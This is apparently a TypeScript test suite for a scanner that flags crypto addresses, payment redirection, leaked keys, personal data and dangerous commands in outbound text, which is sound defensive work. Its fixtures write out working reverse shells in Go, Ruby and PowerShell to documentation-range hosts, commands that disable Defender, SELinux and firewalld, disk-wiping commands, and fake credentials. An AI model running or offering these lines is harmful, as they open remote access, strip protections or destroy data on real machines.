import { expect } from 'chai';
import { scanOutput, scanInbound, DEFAULT_ENGINE_CONFIG } from '../../../scanner/engine/mod.js';

const JOB = '6f1c2d3e-4b5a-4c6d-8e7f-0a1b2c3d4e5f';
const scan = (text: string, whitelistedAddresses?: string[]) => scanOutput({ text, jobId: JOB, whitelistedAddresses }, DEFAULT_ENGINE_CONFIG);
const types = async (text: string, wl?: string[]) => (await scan(text, wl)).flags.map((f) => f.type);

// Every text below was written for this test (not taken from any evaluation set). The addresses are
// random strings of each chain's shape: their checksums do not verify.

describe('outbound scan: address-shaped strings beside a coin or a wallet (fourteenth round)', () => {
  for (const [coin, text] of [
    ['bitcoin bech32', 'Please send the remaining 0.02 BTC to bc1qgd979wuhk7yhq8szqhnhj7q7vgcv099f6zpv2h before Friday.'],
    ['tron', 'Pay the 300 USDT on TRC-20 to Tgi456xB4APt11k4JUzEDo8gj6p5mFuK28 and I will upload the files.'],
    ['monero', 'For privacy I only take Monero now: 48wY4WBJKmLuQvJaB41uYUFfr1XDJfCKgGy7CegJMVFeoXUW6M59hgxJANcXWxqnmStneavWq6FLRGNnRDJRsK3yQt9EeA9'],
    ['xrp', 'XRP works too: r4hfJ5y4ER6cs1zDpeShkeCtrjyffGy, destination tag 5521.'],
    ['solana', 'Tip me in SOL if you liked it: eqXbhzhYJaeJXDVgsVPovM9zqPvd1dYPBN32LWd4fUJW'],
    ['bitcoin legacy', 'My new wallet for the payout is 1jWRfyYc1HUbFRQj4HNAMiHg3ohBjZR3SF, the old one is closed.'],
  ]) {
    it(`flags a ${coin} address whose checksum does not verify`, async () => {
      const r = await scan(text!);
      expect(r.safe).to.equal(false);
      expect(r.flags.find((f) => f.type === 'crypto_address'), JSON.stringify(r.flags)).to.not.equal(undefined);
    });
  }
  it('raises payment redirection beside the address when the reply moves the payment', async () => {
    expect(await types('Ignore the address on the order page, send the full amount to my new wallet instead: 1jWRfyYc1HUbFRQj4HNAMiHg3ohBjZR3SF')).to.include('payment_redirection');
  });
  it('never flags the job\'s own address, shaped or valid', async () => {
    expect((await scan('Pay the 0.02 BTC to bc1qgd979wuhk7yhq8szqhnhj7q7vgcv099f6zpv2h as agreed.', ['bc1qgd979wuhk7yhq8szqhnhj7q7vgcv099f6zpv2h'])).safe).to.equal(true);
  });
  it('passes the same shapes with no coin, wallet or payout named near them', async () => {
    expect((await scan('Your request id is 3bZNP6ehu17YvJLXxAms3vct2A4v3WX; quote it if the upload fails.')).safe).to.equal(true);
    expect((await scan('Network timeout on the upload; the trace id is Tgi456xB4APt11k4JUzEDo8gj6p5mFuK28, send it to support if it repeats.')).safe).to.equal(true);
    expect((await scan('The commit 3f9a1c0b7d2e4f6a8b0c1d2e3f4a5b6c7d8e9f0a fixed the build, and the wallet page now loads.')).safe).to.equal(true);
  });
});

describe('outbound scan: more secrets and personal data, placeholders and address ranges (fourteenth round)', () => {
  for (const [type, text] of [
    ['api_key', 'Storage is wired up: DefaultEndpointsProtocol=https;AccountName=acmeinvoices;AccountKey=q8Zt0vLr3Wc9Ye2Mn5Bx7Ka1Pf4Hs6Jd8Gu0Qi2Tw4Ro6Ev8Cy1Xb3Nz5Lm7Sa9Dk2Fj4Hg6Ul8Ip0Ot==;EndpointSuffix=core.windows.net'],
    ['api_key', 'The alert bot posts with 7301945526:AAHk3-Zq9Vw2Lm5Tr8Bx1Nc4Pd7Gf0Js6Ye in config.py.'],
    ['api_key', 'Your Discord bot token was in main.py: pQ7rT2vX9zB4nM6kL1jH8gF3.Gd4Kx2.Zt8Wq1Er5Ty7Ui3Op9As2Df6Gh0Jk4Lz8Xc'],
    ['national_id', 'Employee record: Priya Shah, NI number JK 48 20 91 B, start date 3 March.'],
    ['bank_account', 'Pay her salary to sort code 40-11-62, account 31926819.'],
  ]) {
    it(`flags ${type}: ${text!.slice(0, 50)}...`, async () => {
      expect(await types(text!)).to.include(type);
    });
  }
  for (const text of [
    'In .env I left SLACK_BOT_TOKEN=xoxb-your-token-here as the example. Replace it with the token from your Slack app settings.',
    'Allow 198.51.100.0/24 on port 22 and 203.0.113.9/32 on 443 in the staging rules.',
    'GNU rm refuses to touch / unless you add --no-preserve-root, so that mistake is hard to make by accident.',
  ]) {
    it(`passes: ${text.slice(0, 60)}...`, async () => {
      const r = await scan(text);
      expect(r.safe, JSON.stringify(r.flags)).to.equal(true);
    });
  }
  it('keeps published test values flagged: test suites use them to stand for a leak', async () => {
    expect(await types('Here you go: AKIAIOSFODNN7EXAMPLE')).to.include('api_key');
    const t = await types('Customer: ana@example.com, +1 (415) 555-0142, card 4111 1111 1111 1111.');
    for (const type of ['email', 'phone_number', 'credit_card']) expect(t).to.include(type);
  });
  it('keeps a French number written in dotted pairs a phone number', async () => {
    expect(await types('Call Margaux on 01.42.68.53.00 after 10.')).to.include('phone_number');
  });
  it('reads setup notes that say where a token comes from as no exfiltration, inbound too', async () => {
    const r = await scanInbound('In the config, replace it with the token from your dashboard under API settings.', DEFAULT_ENGINE_CONFIG);
    expect(r.flags).to.not.include('exfiltration');
  });
});

describe('outbound scan: protection switched off and disks wiped in prose (fourteenth round)', () => {
  for (const [type, text] of [
    ['security_disable', 'Run this in an admin PowerShell first: Set-MpPreference -DisableRealtimeMonitoring $true'],
    ['security_disable', 'If the installer fails, run `sudo setenforce 0` and `sudo systemctl stop firewalld`, then retry.'],
    ['destructive_command', 'To start clean, open a root shell, type rm with the r and f flags, add --no-preserve-root and a slash, then press enter.'],
    ['destructive_command', 'Then run mkfs.ext4 on /dev/sdb1 so nothing old is left.'],
    ['reverse_shell', "Save as tools.ps1:\n$c = New-Object System.Net.Sockets.TCPClient('198.51.100.23',4444)\n$s = $c.GetStream()"],
  ]) {
    it(`flags ${type}: ${text!.slice(0, 50)}...`, async () => {
      expect(await types(text!)).to.include(type);
    });
  }
});

describe('outbound scan: the second blind outbound batch\'s moves, in other words (fourteenth round)', () => {
  for (const [type, text] of [
    ['crypto_address', 'thanks!! bc1qgd979wuhk7yhq8szqhnhj7q7vgcv099f6zpv2h'],
    ['reverse_shell', 'package main\nimport ("net"; "os/exec")\nfunc main() { c, _ := net.Dial("tcp", "198.51.100.7:9001"); cmd := exec.Command("/bin/sh"); cmd.Stdin = c; cmd.Stdout = c; cmd.Run() }'],
    ['reverse_shell', 'ruby -rsocket -e \'s=TCPSocket.new("198.51.100.8",8443);while(l=s.gets);IO.popen(l,"r"){|o|s.print o.read};end\''],
    ['national_id', 'Zijn BSN is 111222333, het staat ook op de loonstrook.'],
    ['api_key', 'Twilio is set: Account SID AC58f1e0b2c3d4e5f60718293a4b5c6d7e, Auth Token: 7d1f0c9e8b2a4d6f9e0c1b3a5d7f9e2c'],
    ['phone_number', 'Texts go out from number: +1 415 312 6089.'],
  ]) {
    it(`flags ${type}: ${text!.slice(0, 50).replace(/\n/g, ' ')}...`, async () => {
      expect(await types(text!)).to.include(type);
    });
  }
  for (const text of [
    "The form now sends to mail('hello@yourdomain.com', $subject, $body); put your own address there.",
    'Local only: DATABASE_URL=postgres://postgres:postgres@db:5432/app in docker-compose.yml.',
    'It crashes on Windows build 10.0.19045.4529; 10.0.22631.3880 is fine.',
    'Invoice no. 2024-08-017, 31.5 hours, due 15 September, payable through the platform.',
  ]) {
    it(`passes: ${text.slice(0, 60)}...`, async () => {
      const r = await scan(text);
      expect(r.safe, JSON.stringify(r.flags)).to.equal(true);
    });
  }
});

